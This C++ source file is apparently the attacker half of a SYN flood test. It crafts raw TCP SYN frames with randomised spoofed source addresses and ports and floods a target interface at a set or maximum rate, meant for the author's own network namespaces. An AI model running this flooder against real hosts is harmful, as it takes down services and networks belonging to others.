// SYNs with random sources into one interface, as fast as the CPU and the driver take them or at a
// given rate: the attacker of flood_test. The sources are behind a gateway, which drops the
// answers. Prints how many left when SIGTERM ends it. Root; for namespaces of one's own.
#include <algorithm>
#include <array>
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <string>
#include <sys/socket.h>

#include <CLI/CLI.hpp>
#include <fmt/format.h>

#include "core/base/endpoint.h"
#include "core/base/prng.h"
#include "io/tcpip/checksum.h"

namespace {

volatile std::sig_atomic_t terminated = 0;

using namespace sy;

uint64_t now_ns() {
    timespec t{};
    clock_gettime(CLOCK_MONOTONIC, &t);
    return static_cast<uint64_t>(t.tv_sec) * 1'000'000'000 + static_cast<uint64_t>(t.tv_nsec);
}

struct Flood {
    static constexpr size_t bytes = 14 + 20 + 24;  // Ethernet, IPv4, TCP with MSS
    std::array<uint8_t, bytes> frame{};
    Prng prng{1};

    Flood(const std::array<uint8_t, 6>& mac, const Endpoint& target) {
        std::copy(mac.begin(), mac.end(), frame.begin());
        const std::array<uint8_t, 8> ethernet{2, 0, 0, 0, 0xee, 1, 8, 0};
        std::copy(ethernet.begin(), ethernet.end(), frame.begin() + 6);
        const std::array<uint8_t, 12> ip{0x45, 0, 0, 44, 0, 0, 0x40, 0, 64, 6, 0, 0};
        std::copy(ip.begin(), ip.end(), frame.begin() + 14);
        std::copy_n(target.address.begin() + 12, 4, frame.begin() + 30);
        frame[36] = static_cast<uint8_t>(target.port >> 8);
        frame[37] = static_cast<uint8_t>(target.port);
        const std::array<uint8_t, 4> offset_flags_window{0x60, 0x02, 0xff, 0xff};
        std::copy(offset_flags_window.begin(), offset_flags_window.end(), frame.begin() + 46);
        const std::array<uint8_t, 4> mss{2, 4, 5, 0xb4};
        std::copy(mss.begin(), mss.end(), frame.begin() + 54);
    }
    /// Another source behind the gateway, any port, any sequence number.
    void vary() {
        const uint64_t random = prng();
        const std::array<uint8_t, 4> source{10, 78, static_cast<uint8_t>(random),
                                            static_cast<uint8_t>((random >> 8) % 254 + 1)};
        std::copy(source.begin(), source.end(), frame.begin() + 26);
        std::memcpy(frame.data() + 34, reinterpret_cast<const uint8_t*>(&random) + 2, 2);
        std::memcpy(frame.data() + 38, reinterpret_cast<const uint8_t*>(&random) + 4, 4);
        frame[24] = frame[25] = frame[50] = frame[51] = 0;
        tcpip::store_checksum(frame.data() + 24, tcpip::sum_octets(frame.data() + 14, 20));
        tcpip::store_checksum(
            frame.data() + 50,
            tcpip::sum_octets(frame.data() + 34, 24) +
                tcpip::pseudo_sum_ipv4(frame.data() + 26, frame.data() + 30, 6, 24));
    }
};

}  // namespace

int main(int argc, char** argv) {
    std::string interface = "eth0";
    std::string target;
    std::string mac_text;
    uint64_t rate = 0;
    CLI::App app{"sends SYNs"};
    app.add_option("--interface", interface);
    app.add_option("--target", target)->required();
    app.add_option("--mac", mac_text, "of the target")->required();
    app.add_option("--rate", rate, "a second; 0: as fast as it goes");
    CLI11_PARSE(app, argc, argv);
    std::array<uint8_t, 6> mac{};
    for (size_t i = 0; i < mac.size() && mac_text.size() >= i * 3 + 2; ++i) {
        mac[i] = static_cast<uint8_t>(std::stoul(mac_text.substr(i * 3, 2), nullptr, 16));
    }
    const auto endpoint = sy::parse_endpoint(target);
    const int fd = socket(AF_PACKET, SOCK_RAW, 0);
    sockaddr_ll to{};
    to.sll_family = AF_PACKET;
    to.sll_ifindex = static_cast<int>(if_nametoindex(interface.c_str()));
    if (!endpoint || fd < 0 || to.sll_ifindex == 0) {
        fmt::print(stderr, "syn_flood: no such target or interface, or not root\n");
        return 1;
    }
    Flood flood(mac, *endpoint);
    uint64_t sent = 0;
    uint64_t refused = 0;
    const uint64_t began = now_ns();
    std::signal(SIGTERM, [](int) { terminated = 1; });
    while (terminated == 0) {
        if (rate != 0 && (now_ns() - began) * rate < (sent + refused) * 1'000'000'000) {
            continue;
        }
        flood.vary();
        const ssize_t done = sendto(fd, flood.frame.data(), flood.frame.size(), 0,
                                    reinterpret_cast<const sockaddr*>(&to), sizeof to);
        ++(done < 0 ? refused : sent);
    }
    fmt::print("{{\"sent\": {}, \"refused\": {}, \"elapsed_us\": {}}}\n", sent, refused,
               (now_ns() - began) / 1000);
    return 0;
}
